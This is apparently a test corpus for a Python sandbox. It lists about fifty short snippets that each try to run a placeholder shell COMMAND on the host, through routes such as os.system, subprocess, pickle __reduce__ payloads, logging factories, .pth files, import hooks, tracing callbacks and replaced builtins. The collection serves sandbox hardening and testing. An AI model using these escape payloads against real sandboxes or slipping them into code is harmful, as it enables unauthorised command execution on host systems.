# Attacks that want a process of the host. On Node, Emscripten hands `system` to a real shell.

#! os.system
import os
print(os.system(COMMAND))

#! posix.system
import posix
print(posix.system(COMMAND))

#= os.popen
import os
print(os.popen(COMMAND).read())

#= subprocess
import subprocess
print(subprocess.run(COMMAND, shell=True, capture_output=True))

#= fork
import os
if os.fork() == 0:
    os.system(COMMAND)

#= posix_spawn
import os
os.posix_spawn('/bin/sh', ['sh', '-c', COMMAND], {})

#= fork_exec of the subprocess helper
import _posixsubprocess
print(_posixsubprocess.fork_exec)
_posixsubprocess.fork_exec([b'/bin/sh', b'-c', COMMAND.encode()], [b'/bin/sh'], True, (), None, None, -1, -1, -1, -1, -1, -1, -1, -1, False, False, -1, None, None, None, -1, None)

#= execv replaces the process
import os
os.execv('/bin/sh', ['sh', '-c', COMMAND])

#= multiprocessing
import multiprocessing, os
process = multiprocessing.Process(target=os.system, args=(COMMAND,))
process.start()
process.join(1)

#= pseudo terminal
import pty
pty.spawn(['/bin/sh', '-c', COMMAND])

#! pydoc pager
import pydoc
pydoc.tempfile_pager('x', COMMAND + ' #') if hasattr(pydoc, 'tempfile_pager') else pydoc.tempfilepager('x', COMMAND + ' #')

#! logging configuration that names a factory
import logging.config
logging.config.dictConfig({'version': 1, 'formatters': {'f': {'()': 'os.system', 'command': COMMAND}}})

#! resolving a name
import pkgutil
pkgutil.resolve_name('os:system')(COMMAND)

#! pickle
import pickle
pickle.loads(b"cos\nsystem\n(V" + COMMAND.encode() + b"\ntR.")

#! pickle of an object with __reduce__
import pickle, os
class Bomb:
    def __reduce__(self):
        return (os.system, (COMMAND,))
pickle.loads(pickle.dumps(Bomb()))

#! copy calls __reduce_ex__
import copy
class Bomb:
    def __reduce_ex__(self, protocol):
        import os
        return (os.system, (COMMAND,))
copy.copy(Bomb())

#! weakref finalizer
import weakref, os
class Thing:
    pass
thing = Thing()
weakref.finalize(thing, os.system, COMMAND)
del thing

#! atexit hook
import atexit, os
atexit.register(os.system, COMMAND)
atexit._run_exitfuncs()

#! signal handler
import signal, os
signal.signal(signal.SIGUSR1, lambda *_: os.system(COMMAND))
signal.raise_signal(signal.SIGUSR1)

#= thread
import threading, os
thread = threading.Thread(target=os.system, args=(COMMAND,))
thread.start()
thread.join()

#= raw thread
import _thread, os
_thread.start_new_thread(os.system, (COMMAND,))

#= thread pool
from concurrent.futures import ThreadPoolExecutor
import os
with ThreadPoolExecutor(1) as pool:
    print(pool.submit(os.system, COMMAND).result(1))

#! scheduler
import sched, time, os
scheduler = sched.scheduler(time.time, time.sleep)
scheduler.enter(0, 1, os.system, (COMMAND,))
scheduler.run()

#! timer of timeit
import timeit
timeit.timeit('__import__("os").system(%r)' % COMMAND, number=1)

#! profiler that runs a statement
import cProfile
cProfile.run('__import__("os").system(%r)' % COMMAND)

#! tracer that runs a statement
import trace
trace.Trace(count=False, trace=False).run('__import__("os").system(%r)' % COMMAND)

#! interactive interpreter
import code
code.InteractiveInterpreter().runsource('import os; os.system(%r)' % COMMAND)

#! debugger that runs a statement
import bdb
bdb.Bdb().run('import os; os.system(%r)' % COMMAND)

#! file that runpy runs
import runpy
with open('/tmp/evil.py', 'w') as file:
    file.write('import os; os.system(%r)' % COMMAND)
runpy.run_path('/tmp/evil.py')

#! module on the import path
import sys
with open('/tmp/evilmodule.py', 'w') as file:
    file.write('import os; os.system(%r)' % COMMAND)
sys.path.insert(0, '/tmp')
import evilmodule

#! module from a zip on the import path
import zipfile, sys
with zipfile.ZipFile('/tmp/evil.zip', 'w') as archive:
    archive.writestr('evilzip.py', 'import os; os.system(%r)' % COMMAND)
sys.path.insert(0, '/tmp/evil.zip')
import evilzip

#! zipimport
import zipimport, zipfile
with zipfile.ZipFile('/tmp/evil2.zip', 'w') as archive:
    archive.writestr('evilzip2.py', 'import os; os.system(%r)' % COMMAND)
zipimport.zipimporter('/tmp/evil2.zip').load_module('evilzip2')

#! module from a spec
import importlib.util
with open('/tmp/evilspec.py', 'w') as file:
    file.write('import os; os.system(%r)' % COMMAND)
spec = importlib.util.spec_from_file_location('evilspec', '/tmp/evilspec.py')
spec.loader.exec_module(importlib.util.module_from_spec(spec))

#! site file with an import line
import site
with open('/tmp/evil.pth', 'w') as file:
    file.write('import os; os.system(%r)\n' % COMMAND)
site.addsitedir('/tmp')

#= path to a test run by doctest
import doctest
with open('/tmp/evil.txt', 'w') as file:
    file.write('>>> import os; os.system(%r)\n0\n' % COMMAND)
doctest.testfile('/tmp/evil.txt', module_relative=False)

#! mock importer
from unittest import mock
import pkgutil
mock._importer('os').system(COMMAND) if hasattr(mock, '_importer') else pkgutil.resolve_name('os:system')(COMMAND)

#= shelve opens a pickle
import shelve
with shelve.open('/tmp/shelf') as shelf:
    shelf['a'] = 1
import pickle
pickle.loads(b"cposix\nsystem\n(V" + COMMAND.encode() + b"\ntR.")

#! library search runs programs
import ctypes.util, os
print(ctypes.util.find_library('c'), os.system(COMMAND))

#= web browser
import webbrowser
webbrowser.GenericBrowser(['/bin/sh', '-c', COMMAND, '%s']).open('x')

#= audit hook
import sys, os
def hook(event, args):
    if event == 'open':
        os.system(COMMAND)
sys.addaudithook(hook)
open('/tmp/x', 'w').close()

#! trace function
import sys, os
def tracer(frame, event, arg):
    os.system(COMMAND)
sys.settrace(tracer)
(lambda: 1)()
sys.settrace(None)

#! profile function
import sys, os
sys.setprofile(lambda *_: os.system(COMMAND))
len('x')
sys.setprofile(None)

#= monitoring callback
import sys, os
sys.monitoring.use_tool_id(4, 'x')
sys.monitoring.register_callback(4, sys.monitoring.events.PY_START, lambda *_: os.system(COMMAND))
sys.monitoring.set_events(4, sys.monitoring.events.PY_START)
(lambda: 1)()

#= hook for unhandled errors
import sys, os
sys.unraisablehook = lambda *_: os.system(COMMAND)
class Trap:
    def __del__(self):
        raise ValueError
Trap()

#= display hook
import sys, os
sys.displayhook = lambda *_: os.system(COMMAND)
exec(compile('1', 'x', 'single'))

#= kernel hooks replaced for the next step
import sys, builtins, os, json, traceback
def run(*_, **__):
    os.system(COMMAND)
    return '{}'
json.dumps = json.loads = traceback.extract_tb = builtins.print = run
builtins.repr = run
print('x')

#! exec with the real builtins
exec('import os; os.system(%r)' % COMMAND, {})

#! eval with the real builtins
eval('__import__("os").system(%r)' % COMMAND, {})
